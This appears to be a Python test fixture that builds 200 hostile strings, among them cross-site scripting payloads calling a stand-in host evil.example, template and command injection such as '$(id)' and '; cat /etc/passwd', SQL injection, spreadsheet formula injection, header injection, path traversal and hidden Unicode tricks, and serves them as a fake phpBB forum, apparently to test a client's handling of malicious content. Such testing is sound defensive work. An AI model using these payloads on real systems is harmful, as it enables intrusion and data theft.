"""Two hundred texts that mean harm, and a board that serves them as titles, names and posts."""

from __future__ import annotations

from html import escape
from itertools import product
from typing import Final

from socks_server import CONNECTED, Connection, Target

_DO = "window.pwned=1;fetch('http://evil.example/x')"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
    "marquee",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,<script>",
    "vbscript:",
    "\x01javascript:",
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u2028\u2029\x1b\x07\x08\x7f\x85\x9b"
_TEMPLATES = (
    *("{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "[[7*7]]"),
    *(
        "{{''.__class__.__mro__}}",
        "@(7*7)",
        "*{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "{$smarty}",
    ),
    *("%{7*7}", "{0.__class__}", "%s%s%n", "$(id)", "`id`", "; cat /etc/passwd", "' OR 1=1 --", "*)(uid=*"),
)
_CELLS = (
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        '=HYPERLINK("http://evil.example")',
        "=cmd|' /C calc'!A0",
        "\t=1",
        "＝1+1",
    ),
    *('"=1', '=IMPORTXML("http://evil.example","//a")', ",=1", "\n=1"),
)
_HEADERS = (
    *("x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "x\r\n\r\n<script>window.pwned=1</script>"),
    *("x%0d%0aSet-Cookie:a=b", "Subject: y\r\nBcc: z@evil.example", "event: alert\ndata: {}\n\n", "\x00\r\n"),
)
_PATHS = (
    *(
        "../../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "%2e%2e%2f",
        "//evil.example/x",
        "a/b/c",
        "?q=1#x",
    ),
    *("C:\\x", "file:///etc/passwd", "\\\\evil.example\\x", "....//....//x", "x;y&z=1"),
)
_MARKUP = (
    f"<script>{_DO}</script>",
    f"</pre></main><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT {_DO}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>log in</button></form>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<a ping=//evil.example href=/>x</a>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:window.pwned=1>",
    "<svg><a xlink:href=javascript:window.pwned=1><text y=9>x</text></a></svg>",
    "' onmouseover=window.pwned=1 x='",
    '" autofocus onfocus=window.pwned=1 x="',
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "http://evil.example/a https://evil.example //evil.example mailto:x@evil.example magnet:?xt=urn:x",
    "![x](http://evil.example/x.png) [x](javascript:window.pwned=1)",
)

#: All different.
PAYLOADS: Final = tuple(
    dict.fromkeys(
        (
            *_MARKUP,
            *(f'"><{tag} {event}="{_DO}">' for tag, event in product(_TAGS, _EVENTS)),
            *(f"{scheme}window.pwned=1" for scheme in _SCHEMES),
            *(f"abc{char}gnp.exe{char} عربي עברית" for char in _BIDI),
            *(f"Inv{char}ented B{char}ank" for char in _UNSEEN),
            *(
                f"{char * 40} deep"
                for char in ("\u0300", "\u0e49", "\ufdfd", "\U000e0041", "🔥\u200d", "＜", "\u202e")
            ),
            *(_TEMPLATES + _CELLS + _HEADERS + _PATHS),
            *(
                f"telegram: @evil_{number} {tag}"
                for number, tag in enumerate(("<b>", "'", '"', "{{x}}", "\u202e", "=1"))
            ),
            *("x" * 3000, "<" * 500, "ي" * 800, "漢" * 800, "Wlong" + "w" * 400 + " x"),
            *(f"<x{number} style='background:url(//evil.example/{number})'>" for number in range(30)),
        )
    )
)[:200]
EACH = 10  # posts of a topic


class Board:
    """A phpBB forum that serves them: twenty topics of ten posts, each payload a post, a name, and some a title."""

    def __call__(self, connection: Connection, _target: Target) -> None:
        connection.wfile.write(CONNECTED)
        path = connection.read_head().split(" ")[1]
        name, _, number = path.partition("t=")
        page = _topic(int(number)) if "viewtopic" in name else _board()
        body = page.encode("utf-8", "surrogatepass")
        head = f"Content-Type: text/html; charset=utf-8\r\nContent-Length: {len(body)}\r\nConnection: close"
        connection.wfile.write(f"HTTP/1.1 200 OK\r\n{head}\r\n\r\n".encode() + body)


def topics() -> range:
    """The keys of the topics."""
    return range(1, len(PAYLOADS) // EACH + 1)


def _title(topic: int) -> str:
    return escape(f"Invented Bank {topic} {PAYLOADS[(topic - 1) * 9 % 200][:120]}")


def _board() -> str:
    rows = "".join(
        f'<li class="row"><dl class="row-item topic_read"><dt><div class="list-inner">'
        f'<a href="./viewtopic.php?f=2&amp;t={topic}" class="topictitle">{_title(topic)}</a>'
        f'<div class="topic-poster">by <span class="username">x</span> &raquo; '
        f'<time datetime="2026-11-2{topic % 3}T10:00:00+00:00">x</time></div></div></dt>'
        f'<dd class="posts">{EACH - 1}</dd><dd class="lastpost"><span>by <span class="username">x</span> '
        f'<time datetime="2026-11-2{topic % 3}T11:00:00+00:00">x</time></span></dd></dl></li>'
        for topic in topics()
    )
    return (
        '<!DOCTYPE html><html><head><title>x</title></head><body id="phpbb" class="section-viewforum">'
        f'<h2 class="forum-title"><a href="./viewforum.php?f=2">x</a></h2><ul class="topiclist topics">{rows}</ul>'
        "</body></html>"
    )


def _topic(topic: int) -> str:
    posts = "".join(_post(number, topic) for number in range((topic - 1) * EACH, topic * EACH))
    return (
        '<!DOCTYPE html><html><head><title>x</title></head><body id="phpbb" class="section-viewtopic">'
        f'<h2 class="topic-title"><a href="./viewtopic.php?f=2&amp;t={topic}">{_title(topic)}</a></h2>'
        f"{posts}</body></html>"
    )


def _post(number: int, topic: int) -> str:
    return (
        f'<div id="p{number + 1}" class="post"><div class="postbody"><p class="author">by '
        f'<strong><span class="username">{escape(PAYLOADS[number][:60])}</span></strong> &raquo; '
        f'<time datetime="2026-11-2{topic % 3}T10:{number % EACH:02}:00+00:00">x</time></p><div class="content">'
        f"Invented Bank payload-{number:03} {escape(PAYLOADS[number])}</div></div></div>"
    )
